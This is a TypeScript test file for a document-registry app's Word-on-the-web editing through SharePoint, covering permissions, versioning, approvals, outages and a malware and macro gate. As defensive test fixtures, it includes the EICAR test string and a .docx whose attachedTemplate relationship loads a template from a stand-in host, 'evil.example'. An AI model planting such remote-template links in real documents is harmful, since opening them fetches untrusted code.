import assert from "node:assert/strict";
import { createProcessInspection } from "../../../src/adapters/inspection/process-inspection.ts";
import { RuleBroken } from "../../../src/domain/rule-broken.ts";
import { ArchiveUnavailable } from "../../../src/ports/archive.ts";
import { followAllChanges } from "../../../src/usecases/archive/follow-changes.ts";
import { editDraft } from "../../../src/usecases/drafts/edit-draft.ts";
import { followDrafts } from "../../../src/usecases/drafts/follow-draft.ts";
import { withdrawDraft } from "../../../src/usecases/drafts/withdraw-draft.ts";
import { eicar } from "../../support/clamd.ts";
import { scannerDouble } from "../../support/scanner-double.ts";
import { makeOffice } from "../../support/zip-fixture.ts";
import type { DraftWorld } from "./draft-world.ts";
import { draftsInWord } from "./drafts-in-word.ts";

const broken = (code: string) => (error: unknown) => error instanceof RuleBroken && error.code === code;

describe("a draft in Word on the web", () => {
  const word = draftsInWord();
  const { drive, itemOf } = word;
  const write = (...all: Parameters<typeof word.write>) => word.write(...all);
  const follow = () => word.follow();
  let world: DraftWorld;
  beforeEach(() => ({ world } = word));

  it("opens one item, lets only those who may edit do so, and takes over what they write with who and when", async () => {
    const { planner, planningHead, clerk } = world.people;
    const id = await world.start(planner);
    assert.equal((await world.read(planner, id)).editing, "offered");
    const [first, second] = [
      await editDraft(world.services, planner, id),
      await editDraft(world.services, planningHead, id),
    ];
    assert.equal(first.url, second.url);
    assert.equal(new URL(first.url).host, "donvi.sharepoint.com");
    await assert.rejects(editDraft(world.services, clerk, id), broken("draft.absent"));
    const item = await itemOf(id);
    assert.deepEqual(item.editors, [planner.personId, planningHead.personId]);
    const [, year, register] = drive().pathOf(item);
    assert.equal(register, "Dự thảo", `${year}`);

    assert.equal(await follow(), 0, "what Vanthu put there itself is no new version");
    await write(id, "bản sửa trong Word");
    await write(id, "bản sửa trong Word, lần hai");
    assert.equal(await follow(), 2);
    assert.equal(await follow(), 0);
    const { versions, history } = await world.read(planner, id);
    assert.deepEqual(
      versions.map(({ number, by, from, name }) => ({ number, by, from, name })),
      [
        { number: 3, by: "Hoàng Thị Ngát", from: "editing", name: "Dự thảo.docx" },
        { number: 2, by: "Hoàng Thị Ngát", from: "editing", name: "Dự thảo.docx" },
        { number: 1, by: planner.name, from: "upload", name: "Dự thảo.docx" },
      ],
    );
    const saved = item.versions.at(-1)?.at.toISOString();
    assert.equal(versions[0]?.at, saved, "the time is that of the archive's version");
    const alarms = history.filter(({ action }) => action.startsWith("archive."));
    assert.deepEqual(alarms, [], "nobody is alarmed of what is meant to change");
  });

  it("puts an uploaded version where it is edited, and never over what somebody wrote there meanwhile", async () => {
    const { planner, planningHead } = world.people;
    const id = await world.start(planner);
    await editDraft(world.services, planner, id);
    const version = await world.version(id);
    // One more with whom it is shared is another state of the item, and no text of anybody.
    await editDraft(world.services, planningHead, id);
    drive().move(await itemOf(id), drive().get((await itemOf(id)).parent ?? ""), "Tên khác.docx");
    assert.equal(await follow(), 0);
    assert.equal(await world.version(id), version, "and nobody's page is out of date for it");
    await editDraft(world.services, planner, id);
    await world.add(planner, id, 1, "tải lên từ máy");
    assert.equal((await itemOf(id)).versions.length, 2);
    assert.equal(await follow(), 0, "it is known already");

    await write(id, "đồng nghiệp sửa");
    await assert.rejects(world.add(planner, id, 2, "ghi đè"), broken("draft.changed-in-word"));
    assert.equal((await followDrafts(world.services)).taken, 1, "the refusal has it taken over at once");
    (await itemOf(id)).isLocked = true;
    await assert.rejects(world.add(planner, id, 3, "đang mở"), broken("draft.being-edited"));
    (await itemOf(id)).isLocked = false;
    await world.add(planner, id, 3, "đã gộp");
    assert.equal((await world.read(planner, id)).latest, 4);
  });

  it("keeps what was approved when the file is changed afterwards, and says so; submits only what was seen", async () => {
    const { planner, leader } = world.people;
    const id = await world.start(planner);
    await editDraft(world.services, planner, id);
    await write(id, "chưa ai xem trong Vanthu");
    await assert.rejects(world.submit(planner, id, 1, leader), broken("draft.changed"));
    await world.submit(planner, id, 2, leader);
    await world.approve(leader, id, 2);
    const { approval } = await world.read(leader, id);
    await write(id, "sửa lén sau khi duyệt");
    await follow();
    const late = await world.read(leader, id);
    assert.equal(late.changedAfterApproval, true);
    assert.deepEqual(late.approval, approval);
    assert.equal(late.history.at(-1)?.action, "draft.changedAfterApproval");
  });

  it("refuses what the gate refuses, also in Word: the item goes, the last good version stays (R07, R59)", async () => {
    const { planner } = world.people;
    const id = await world.start(planner);
    await editDraft(world.services, planner, id);
    const item = await itemOf(id);
    await write(id, "TUYỆT MẬT");
    const inspect = world.files.inspect;
    world.files.inspect = () => Promise.reject(new RuleBroken("intake.macros"));
    assert.equal(await follow(), 0);
    world.files.inspect = inspect;
    assert.equal(item.gone, "purged");
    const detail = await world.read(planner, id);
    assert.equal(detail.latest, 1);
    assert.equal(detail.editing, "offered");
    assert.equal(detail.history.at(-1)?.action, "draft.versionRefused");
    assert.deepEqual(await world.services.store.read.uploads.after(null, 10), []);
  });

  it("keeps malware that was written in Word from everybody, and tells who answers for it (R59)", async () => {
    const { planner, administrator } = world.people;
    const scanner = scannerDouble();
    const services = { ...world.services, scanner };
    const id = await world.start(planner);
    await editDraft(services, planner, id);
    const item = await itemOf(id);
    await write(id, `bản sửa ${eicar}`);
    await followAllChanges(services, { budgetMs: 10_000 });
    scanner.fault = "away";
    assert.deepEqual(await followDrafts(services), { taken: 0, later: 1 }, "unscanned it is not taken over");
    assert.deepEqual(await services.store.read.uploads.after(null, 10), []);
    scanner.fault = null;
    world.files.clock.set(new Date(world.files.clock.now().getTime() + 120_000));
    assert.deepEqual(await followDrafts(services), { taken: 0, later: 0 });
    assert.equal(item.gone, "purged", "nobody opens it in SharePoint any more");
    const detail = await world.read(planner, id);
    assert.deepEqual([detail.latest, detail.history.at(-1)?.action], [1, "draft.versionRefused"]);
    const [kept] = await services.store.read.uploads.after(null, 10);
    assert.deepEqual([kept?.state, kept?.scan.state], ["blocked", "infected"]);
    const { agency } = world.files.people;
    const cards = await services.store.read.deliveries.list(agency.id, { after: null, limit: 100 });
    const told = cards.filter(({ reason }) => reason === "malwareFound").map(({ personName }) => personName);
    assert.deepEqual(told.toSorted(), [administrator.name, planner.name].toSorted());
    assert.ok(cards.some(({ reason }) => reason === "draftVersionRefused"));
  });

  it("refuses what does something when it is opened, by what the gate finds in the bytes (macros, a fetched template)", async () => {
    const { planner } = world.people;
    const inspection = createProcessInspection({ processes: 1 });
    const services = { ...world.services, inspection };
    const macros = makeOffice("docx", ["A"], [{ name: "word/vbaProject.bin", content: "x" }]);
    const link =
      '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    const fetched = makeOffice("docx", ["A"], [{ name: "word/_rels/settings.xml.rels", content: link }]);
    try {
      for (const [bytes, code] of [
        [macros, "intake.macros"],
        [fetched, "intake.remote-template"],
      ] as const) {
        const id = await world.start(planner);
        await editDraft(services, planner, id);
        const item = await itemOf(id);
        await write(id, bytes);
        await followAllChanges(services, { budgetMs: 10_000 });
        assert.equal((await followDrafts(services)).taken, 0);
        assert.equal(item.gone, "purged");
        const entries = await services.store.read.audit.ofDocument(id);
        assert.equal(entries.at(-1)?.data["code"], code);
      }
    } finally {
      await inspection.close();
    }
  });

  it("takes the item away once the draft has ended, with what was written until then taken over", async () => {
    const { planner } = world.people;
    const id = await world.start(planner);
    await editDraft(world.services, planner, id);
    const item = await itemOf(id);
    await write(id, "bản cuối");
    await withdrawDraft(world.services, planner, id, { version: await world.version(id), reason: "Thôi" });
    assert.equal(await follow(), 1);
    assert.equal(item.gone, "purged");
    assert.equal((await world.read(planner, id)).editing, "offered");
    assert.equal((await followDrafts(world.services)).taken, 0);
  });

  it("is handed out and uploaded where the app may not share (role write), and leaves nothing there", async () => {
    const { planner } = world.people;
    word.site.grant = "write";
    const id = await world.start(planner);
    await assert.rejects(editDraft(world.services, planner, id), broken("draft.editing-denied"));
    assert.deepEqual(drive().files(), []);
    await world.add(planner, id, 1, "sửa trên máy");
    assert.equal((await world.read(planner, id)).latest, 2);
  });

  it("waits while SharePoint is away, and goes on when it is back", async () => {
    const { planner, leader } = world.people;
    const id = await world.start(planner);
    await editDraft(world.services, planner, id);
    await write(id, "trước khi mất mạng");
    await followAllChanges(world.services, { budgetMs: 10_000 });
    const away = { kind: "status", status: 503 } as const;
    word.double.faults.plan(({ host }) => host === "graph", away, 1000);
    await assert.rejects(world.add(planner, id, 1, "tải lên"), ArchiveUnavailable);
    assert.deepEqual(await followDrafts(world.services), { taken: 0, later: 1 });
    await world.submit(planner, id, 1, leader);
    word.double.faults.clear();
    world.files.clock.set(new Date(world.files.clock.now().getTime() + 120_000));
    assert.equal((await followDrafts(world.services)).taken, 1);
    assert.equal((await world.read(planner, id)).submission?.number, 1);
  });
});
